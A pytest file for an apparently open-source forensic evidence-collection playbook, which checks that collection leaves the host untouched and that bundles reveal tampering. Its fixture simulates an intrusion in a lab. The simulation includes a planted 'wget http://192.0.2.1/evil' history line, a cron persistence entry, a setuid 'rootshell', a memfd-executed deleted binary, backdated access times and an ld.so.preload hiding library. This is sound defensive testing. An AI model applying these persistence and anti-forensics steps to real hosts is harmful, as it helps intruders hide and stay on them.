# Copyright: Contributors to the Portcullis project
# SPDX-License-Identifier: GPL-3.0-or-later
"""Evidence of a whole host that was taken over: what is in it, that the host's disk stays as it is, and that a bundle shows what changed.

PORTCULLIS_INCIDENT=all does it on every release.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from demo.fleet import ROOT, Fleet, Run
from lab import Lab

HOST = "web1"
RELEASES = ["bullseye", "bookworm", "trixie"] if os.environ.get("PORTCULLIS_INCIDENT") == "all" else ["trixie"]
PLAYBOOK = ROOT / "playbooks" / "incident.yml"
#: What a login itself writes, which the documentation names.
OF_THE_LOGIN = (
    "var/log/journal",
    "var/log/wtmp",
    "var/log/lastlog",
    "var/lib/wtmpdb",
    "var/lib/lastlog",
    "run",
    "dev",
    "proc",
    "sys",
)
#: What an intruder leaves: programs that are gone from the disk, and a library that hides a file and a process.
TAKE_OVER = r"""
set -eu
useradd --create-home --shell /bin/sh eve
mount -t tmpfs -o strictatime,mode=755 tmpfs /home/eve
printf 'wget http://192.0.2.1/evil\n' > /home/eve/.bash_history
mkdir -p /var/spool/cron/crontabs
mount -t tmpfs -o strictatime,mode=755 tmpfs /var/spool/cron/crontabs
echo '* * * * * /tmp/again' > /var/spool/cron/crontabs/eve
cp /bin/sleep /home/eve/rootshell; chmod 4755 /home/eve/rootshell
cp /bin/sleep /tmp/gone
SECRET_OF_EVE=4711 setsid /tmp/gone 1000 >/dev/null 2>&1 </dev/null &
cp /bin/sleep /usr/bin/zz-hidden
setsid /usr/bin/zz-hidden 1000 >/dev/null 2>&1 </dev/null &
sleep 0.2
rm /tmp/gone
setsid python3 -c '
import os
file = os.memfd_create("evil")
os.write(file, open("/bin/sleep", "rb").read())
os.execv(f"/proc/self/fd/{file}", ["sleep", "1000"])
' >/dev/null 2>&1 </dev/null &
printf changed >> /usr/bin/chage
touch /opt/zz-hidden
touch -a -d '2020-01-01 00:00:00' /home/eve /home/eve/.bash_history /var/spool/cron/crontabs/eve /home/eve/rootshell
chmod 644 /usr/lib/libnice.so
echo /usr/lib/libnice.so > /etc/ld.so.preload
"""


@dataclass
class Case:
    """A host that was taken over, and the controller's own folder and keys."""

    lab: Lab
    folder: Path

    @property
    def key(self) -> Path:
        return self.folder / "key"

    def play(self, **variables: object) -> Run:
        given = json.dumps({name: str(value) for name, value in variables.items()})
        return Fleet(self.lab, {}).play(PLAYBOOK, "-e", given)

    def verify(self, bundle: Path, **variables: object) -> Run:
        return self.play(
            incident_action="verify", incident_bundle=bundle, incident_signer=f"{self.key}.pub", **variables
        )

    def sh(self, command: str) -> str:
        done = self.lab.exec(HOST, ["sh", "-c", command])
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    def disk(self) -> dict[str, object]:
        """Return all that was ever written on the host, with the times and contents of it: the upper layer of its disk, as the kernel has it."""
        upper = self.lab.machine(HOST).folder / "upper"
        found: dict[str, object] = {}
        for path in upper.rglob("*"):
            name = str(path.relative_to(upper))
            known = path.lstat()
            digest = hashlib.sha256(path.read_bytes()).hexdigest() if stat.S_ISREG(known.st_mode) else ""
            # A folder in which a login keeps its records is written to where it makes one.
            times = () if name in ("var/log", "var/lib") else (known.st_mtime_ns, known.st_ctime_ns)
            if not name.startswith(OF_THE_LOGIN):
                found[name] = (known.st_mode, known.st_uid, known.st_gid, *times, digest)
        return found


@dataclass
class Bundle:
    """What was collected."""

    path: Path
    run: Run
    seconds: float
    disk: tuple[Mapping[str, object], Mapping[str, object]]
    atimes: tuple[str, str]

    @property
    def manifest(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads((self.path / "manifest.json").read_text())
        return found

    def items(self, kind: str, title: str = "") -> list[bytes]:
        named = [item for item in self.manifest["items"] if item["kind"] == kind and title in item["title"]]
        return [(self.path / item["file"]).read_bytes() for item in named]

    def all(self, kind: str, title: str = "") -> bytes:
        return b"\n".join(self.items(kind, title))


@pytest.fixture(scope="module", params=RELEASES)
def case(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Case]:
    lab = Lab(f"incident-{os.getpid()}")
    folder = tmp_path_factory.mktemp("incident")
    for name in ("key", "other"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(folder / name)], check=True)
    try:
        lab.up({HOST: request.param})
        found = Case(lab, folder)
        library = lab.machine(HOST).root / "usr/lib/libnice.so"
        source = Path(__file__).with_name("hiding.c")
        # Without libc's own names of versions, so that it loads in any release; in bullseye dlsym is libdl's.
        options = ["-shared", "-fPIC", "-O1", "-nostdlib", "-Wl,--no-as-needed", "-l:libdl.so.2"]
        subprocess.run(["gcc", str(source), *options, "-o", str(library)], check=True)
        found.sh(TAKE_OVER)
        yield found
    finally:
        lab.down()


@pytest.fixture(scope="module")
def bundle(case: Case) -> Bundle:
    def atimes() -> str:
        return case.sh(
            "stat -c '%n %X' /home/eve /home/eve/.bash_history /var/spool/cron/crontabs/eve /home/eve/rootshell"
        )

    # A login by itself, so that what it makes once is there.
    login = case.lab.run([*case.lab.ssh(HOST, "admin"), "sudo", "true"])
    assert login.returncode == 0, login.stderr
    disk, times = case.disk(), atimes()
    began = time.monotonic()
    run = case.play(
        incident_action="collect", incident_host=HOST, incident_folder=case.folder / "evidence", incident_key=case.key
    )
    seconds = time.monotonic() - began
    assert run.code == 0, run.output[-3000:]
    (path,) = (case.folder / "evidence").iterdir()
    return Bundle(path, run, seconds, (disk, case.disk()), (times, atimes()))


def test_the_hosts_disk_and_its_times_of_access_stay_as_they_are(bundle: Bundle) -> None:
    before, after = bundle.disk
    differing = {
        name: (before.get(name), after.get(name)) for name in {*before, *after} if before.get(name) != after.get(name)
    }
    assert differing == {}
    assert bundle.atimes[0] == bundle.atimes[1]
    assert bundle.atimes[0].count(" 1577836800\n") == 4
    about = json.loads(bundle.items("about", "how this host")[0])["collected_by"]
    assert about["read_only"] is True
    assert bundle.seconds < 240


def test_what_libc_hides_is_marked(bundle: Bundle) -> None:
    marks = "\n".join(bundle.manifest["marks"])
    assert "/opt/zz-hidden is hidden from libc's list of its folder" in marks
    assert "/usr/bin/zz-hidden is hidden from libc's list of its folder" in marks
    assert "(/usr/bin/zz-hidden) is hidden from libc's list of /proc" in marks
    assert "(/usr/bin/zz-hidden) is hidden from ps" in marks
    assert "/usr/lib/libnice.so is loaded into every program" in marks
    assert "/etc/ld.so.preload has this loaded into every program: /usr/lib/libnice.so" in marks
    hidden = [json.loads(line) for line in bundle.items("hidden", "what the kernel")[0].splitlines()]
    # And nothing else: what comes and goes meanwhile is not hidden.
    assert {one["what"].rpartition("/")[2].strip("()") for one in hidden} - {"libdl.so.2"} == {
        "zz-hidden",
        "libnice.so",
    }
    assert b"zz-hidden" in bundle.all("hidden", "/usr/lib/libnice.so")
    # The collection itself sees what is hidden.
    assert b"zz-hidden" in bundle.all("processes")
    assert b"/opt/zz-hidden" in bundle.all("files", "changed")


def test_what_is_gone_from_the_disk_is_kept(case: Case, bundle: Bundle) -> None:
    sleep = hashlib.sha256((case.lab.machine(HOST).root / "bin/sleep").read_bytes()).hexdigest()
    for named in ("/tmp/gone (deleted)", "/memfd:evil (deleted)", "/usr/bin/zz-hidden, and is hidden"):
        (copy,) = bundle.items("executables", named)
        assert hashlib.sha256(copy).hexdigest() == sleep
    assert b"SECRET_OF_EVE=4711" in bundle.all("environments")


def test_what_an_investigation_needs_is_there(bundle: Bundle) -> None:
    manifest = bundle.manifest
    kinds = {item["kind"] for item in manifest["items"]}
    assert {
        "sockets",
        "open-files",
        "network",
        "units",
        "scheduled",
        "keys",
        "accounts",
        "logins",
        "packages",
        "journal",
    } <= kinds
    # File systems of their own are walked and read, too.
    assert b"/tmp/again" in bundle.all("scheduled", "/var/spool/cron/crontabs/eve")
    assert b"http://192.0.2.1/evil" in bundle.all("histories", "/home/eve")
    assert b"/home/eve/rootshell" in bundle.all("files", "set-user-id")
    assert b'"/usr/bin/chage"' in bundle.all("differing", "files that")
    assert b"Accepted publickey for admin" in bundle.all("logins", "journalctl")
    assert b"0016" in bundle.all("sockets", "/proc/net/tcp in")
    assert b"timers.target" in bundle.all("units")
    assert b"ssh-ed25519" in bundle.all("keys", "/root/.ssh/authorized_keys")
    assert manifest["complete"] is True
    (listed,) = [
        item for item in manifest["items"] if item["title"].startswith("systemctl --no-pager --full list-timers")
    ]
    assert listed["code"] == 0
    assert listed["command"][0] == "systemctl"
    assert listed["started"] <= listed["ended"]
    assert (bundle.path.stat().st_mode & 0o777, (bundle.path / "manifest.json").stat().st_mode & 0o777) == (
        0o700,
        0o600,
    )


def test_a_bundle_shows_what_was_changed_in_it(case: Case, bundle: Bundle) -> None:
    run = case.verify(bundle.path, incident_note="handed over")
    assert run.code == 0, run.output[-3000:]
    assert "is as it was sealed" in run.output
    changed, missing = (bundle.path / bundle.manifest["items"][number]["file"] for number in (3, 4))
    contents = changed.read_bytes(), missing.read_bytes()
    added = bundle.path / "items" / "99999-about"
    added.write_bytes(b"")
    changed.write_bytes(b"\x00" + contents[0][1:])
    missing.unlink()
    run = case.verify(bundle.path)
    assert run.code != 0
    for said in (f"{changed.name} was changed", f"{missing.name} is missing", f"{added.name} was added"):
        assert said in run.output
    changed.write_bytes(contents[0])
    missing.write_bytes(contents[1])
    missing.chmod(0o600)
    added.unlink()
    manifest = bundle.path / "manifest.json"
    manifest.write_text(manifest.read_text().replace('"complete": true', '"complete": true '))
    log = (bundle.path / "custody.jsonl").read_text().splitlines()
    assert [json.loads(line)["what"] for line in log] == ["collected", "verified", "found changed"]
    (bundle.path / "custody.jsonl").write_text("\n".join([log[0], log[2], ""]))
    run = case.verify(bundle.path)
    assert "not what this key sealed" in run.output
    assert "custody log is broken at line 2" in run.output
